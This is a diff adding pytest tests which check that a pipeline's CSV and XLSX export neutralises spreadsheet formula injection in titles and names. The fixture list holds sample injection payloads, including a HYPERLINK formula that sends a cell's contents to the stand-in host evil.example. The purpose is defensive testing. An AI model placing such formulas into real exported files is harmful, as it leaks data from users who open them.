@@ -76,3 +76,51 @@ def test_xlsx_one_sheet_per_table(out, tables, tmp_path):
 def test_unknown_format(out, tmp_path):
     with pytest.raises(ValueError, match="csv, xlsx"):
         export(out, tmp_path, "json")
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+62 811 555", "-Berita terkini", "@SUM(A1:A9)",
+            "\t=1+1", "\r=1+1"]
+
+
+@pytest.fixture
+def formula_out(tmp_path) -> Path:
+    """Titles and names a web page could carry, that a spreadsheet would run as formulas."""
+    import pyarrow as pa
+    import pyarrow.parquet as pq
+
+    from pipeline.writers import SCHEMAS
+
+    out = tmp_path / "out"
+    tables = {
+        "documents": [dict(doc_id=f"d{n}", source=f"feed.jsonl#{n}", title=t, status="no_event", n_events=0)
+                      for n, t in enumerate(FORMULAS + ["Judul biasa"])],
+        "people": [dict(doc_id="d0", name="=1+1", title="Gubernur", role="gubernur", start_char=0, end_char=3)],
+        "scores": [dict(doc_id="d0", subject="Pemprov", value=-1.5, kind="achieved", evidence="-")],
+    }
+    for table, rows in tables.items():
+        (out / table).mkdir(parents=True)
+        pq.write_table(pa.Table.from_pylist(rows, schema=SCHEMAS[table]), out / table / "part-0.parquet")
+    return out
+
+
+def test_csv_cells_that_would_be_formulas_start_with_an_apostrophe(formula_out, tmp_path):
+    export(formula_out, tmp_path / "csv", "csv")
+    titles = [r["title"] for r in read_csv(tmp_path / "csv" / "documents.csv")]
+    assert titles == ["'" + t for t in FORMULAS] + ["Judul biasa"]
+    assert [r["name"] for r in read_csv(tmp_path / "csv" / "people.csv")] == ["'=1+1"]
+    (score,) = read_csv(tmp_path / "csv" / "scores.csv")
+    assert (score["value"], score["evidence"]) == ("-1.5", "'-")  # a number stays a number
+
+
+def test_xlsx_cells_that_would_be_formulas_are_text(formula_out, tmp_path):
+    import openpyxl
+
+    (path,) = export(formula_out, tmp_path, "xlsx")
+    book = openpyxl.load_workbook(path)
+    formulas = [(s.title, c.coordinate) for s in book for row in s.iter_rows() for c in row if c.data_type == "f"]
+    assert not formulas
+    docs = list(book["documents"].iter_rows(values_only=True))
+    col = docs[0].index("title")
+    assert [r[col] for r in docs[1:]] == FORMULAS + ["Judul biasa"]  # the text itself, unchanged
+    people = list(book["people"].iter_rows(values_only=True))
+    assert people[1][people[0].index("name")] == "=1+1"
